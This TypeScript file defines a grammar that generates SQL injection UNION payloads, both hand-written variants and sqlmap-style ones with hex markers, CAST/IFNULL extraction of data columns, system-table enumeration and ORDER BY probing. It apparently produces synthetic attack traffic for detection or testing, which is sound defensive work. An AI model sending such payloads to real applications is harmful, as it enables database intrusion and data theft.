/** UNION queries: by hand, by sqlmap, and nested in odd places. */
import { bound, integer, maybe, oneOf, type Part, type Rule, repeat, text, weighted } from '../../grammar.ts';
import { MARKER } from '../hosts.ts';
import { PLAUSIBLE_VALUE } from '../plausible-values.ts';
import { CLOSING, COMMENT_OUT, delivered, injected, LEAD } from './frame.ts';
import {
  FOUR_DIGITS,
  FOUR_LETTERS,
  NUMBER,
  SERVER_VALUE,
  STOLEN,
  SYSTEM_TABLE,
  sqlString,
  TABLE,
} from './vocabulary.ts';

const UNION: Rule = weighted(
  [6, 'union select'],
  [4, 'union all select'],
  [1, 'union distinct select'],
  [0.3, 'union(select'],
  [0.3, 'union distinctrow select'],
);

/** `1,2,3,…` as far as drawn, sometimes with one of the numbers replaced. */
const COUNTED: Rule = bound(integer(1, 14), (count) => {
  const numbers = Array.from({ length: Number(count) }, (_, index) => String(index + 1));
  const replaced = numbers.map((_, place) => {
    const around: Part[] = numbers.map((number, index) => (index === place ? STOLEN : number));
    return joined(around);
  });
  return oneOf(numbers.join(','), ...replaced);
});

function joined(parts: readonly Part[]): Rule {
  return parts.reduce<Rule>((written, part, index) => (index === 0 ? text`${part}` : text`${written},${part}`), text``);
}

const FILLER: Rule = weighted([6, 'null'], [3, NUMBER], [1, sqlString(MARKER)], [2, STOLEN], [1, SERVER_VALUE]);

const COLUMNS: Rule = weighted(
  [4, COUNTED],
  [3, repeat('null', 1, 12, ',')],
  [3, repeat(FILLER, 1, 8, ',')],
  [2, STOLEN],
  [1, text`${STOLEN},${COUNTED}`],
);

const SOURCE: Rule = weighted(
  [5, ''],
  [5, text` from ${TABLE}`],
  [3, text` from ${SYSTEM_TABLE}`],
  [1, text` from ${SYSTEM_TABLE} where table_schema=${oneOf('database()', sqlString(MARKER))}`],
  [1, ' from dual'],
  [1, text` from ${TABLE} limit ${integer(0, 9)},1`],
  [0.5, text` from ${TABLE} where ${MARKER}=${sqlString(MARKER)}`],
);

const UNION_QUERY = bound(UNION, (union) => text`${union} ${COLUMNS}${SOURCE}${union.includes('(') ? ')' : ''}`);

/** `1' union select 1,2,version()-- -` and its relatives. */
export const unionSelect: Rule = delivered(
  weighted(
    [6, injected(UNION_QUERY)],
    [1, text`${LEAD}${CLOSING} limit ${integer(0, 1)} ${UNION_QUERY}${COMMENT_OUT}`],
    [1, text`${PLAUSIBLE_VALUE} and 1=${integer(2, 9)} ${UNION_QUERY}${maybe(COMMENT_OUT)}`],
    [0.5, UNION_QUERY],
    [0.5, text`-1 ${UNION_QUERY} -- ${MARKER}`],
    [0.5, text`${LEAD}' or '1'='2' ${UNION_QUERY}${COMMENT_OUT}`],
  ),
);

const SQLMAP_VALUE: Rule = oneOf(
  text`CONCAT(0x71${MARKER_HEX()},0x${repeat('7', 8, 20)},0x71${MARKER_HEX()})`,
  text`CONCAT(0x71${MARKER_HEX()},IFNULL(CAST(${STOLEN} AS NCHAR),0x20),0x71${MARKER_HEX()})`,
  text`'q${FOUR_LETTERS}'||'${FOUR_LETTERS}${FOUR_LETTERS}'||'q${FOUR_LETTERS}'`,
  text`(CHR(113)||CHR(${integer(97, 122)})||CHR(113))||COALESCE(CAST(${STOLEN} AS VARCHAR(10000)),CHR(32))||CHR(113)`,
  text`CHAR(113)+CHAR(${integer(97, 122)})+ISNULL(CAST(${STOLEN} AS NVARCHAR(4000)),CHAR(32))+CHAR(113)`,
  FOUR_DIGITS,
);

function MARKER_HEX(): Rule {
  return text`${oneOf('62', '6a', '70', '76', '7a')}${oneOf('62', '6b', '71', '76', '78')}${oneOf('6b', '71', '7a')}71`;
}

const SQLMAP_COLUMNS = text`${repeat('NULL,', 0, 8)}${SQLMAP_VALUE}${repeat(',NULL', 0, 6)}`;

/** UNION queries as sqlmap writes them: capitals, NULLs, markers in hex, a random word behind the comment. */
export const unionSqlmap: Rule = delivered(
  weighted(
    [3, text`${LEAD}${CLOSING} UNION ALL SELECT ${SQLMAP_COLUMNS}${oneOf('-- ', '#', '-- -')}${maybe(FOUR_LETTERS)}`],
    [2, text`-${FOUR_DIGITS}${maybe(CLOSING)} UNION ALL SELECT ${SQLMAP_COLUMNS} FROM ${TABLE}-- ${FOUR_LETTERS}`],
    [
      1,
      text`-${FOUR_DIGITS} UNION ALL SELECT ${repeat(FOUR_DIGITS, 1, 9, ',')}${oneOf('#', '-- ', '-- ')}${FOUR_LETTERS}`,
    ],
    [1, text`${integer(1, 99)}${CLOSING} ORDER BY ${integer(1, 9999)}-- ${FOUR_LETTERS}`],
  ),
);
